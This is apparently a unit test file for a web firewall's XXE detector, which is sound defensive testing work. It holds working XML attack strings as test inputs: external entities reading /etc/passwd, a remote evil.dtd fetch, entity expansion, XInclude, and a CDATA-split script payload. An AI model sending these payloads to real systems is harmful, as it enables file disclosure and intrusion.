import { describe, expect, it } from 'vitest';

import { detectXxe } from '../../../src/validation/waf/xxe.js';
import type { DetectContext } from '../../../src/validation/waf/types.js';

const level1: DetectContext = { paranoia: 1, strict: false };
const ids = (input: string, context: DetectContext = level1): string[] =>
  detectXxe(input, context).map((hit) => hit.ruleId);

describe('detectXxe', () => {
  it.each([
    [
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
      'xxe-002-external-entity',
    ],
    ['<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>', 'xxe-001-doctype-entity'],
    ['<!ENTITY % dtd SYSTEM "http://203.0.113.9/evil.dtd"> %dtd;', 'xxe-003-parameter-entity'],
    ['<!DOCTYPE foo SYSTEM "http://203.0.113.9/x.dtd">', 'xxe-004-external-dtd'],
    [
      '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>',
      'xxe-005-xinclude',
    ],
    ['<![CDATA[<]]>script<![CDATA[>]]>alert(1)', 'xxe-010-cdata-split'],
  ])('detects %j at paranoia 1', (input, ruleId) => {
    expect(ids(input)).toContain(ruleId);
  });

  it('reports a bare DOCTYPE from paranoia 2', () => {
    expect(ids('<!DOCTYPE html>')).toEqual([]);
    expect(ids('<!DOCTYPE html>', { paranoia: 2, strict: false })).toContain('xxe-006-doctype');
  });

  it.each(['<p>Hello <em>world</em></p>', '100% of 50%; done', 'I love <3 this product!!!'])(
    'passes %j',
    (input) => {
      expect(ids(input, { paranoia: 3, strict: false })).toEqual([]);
    },
  );
});
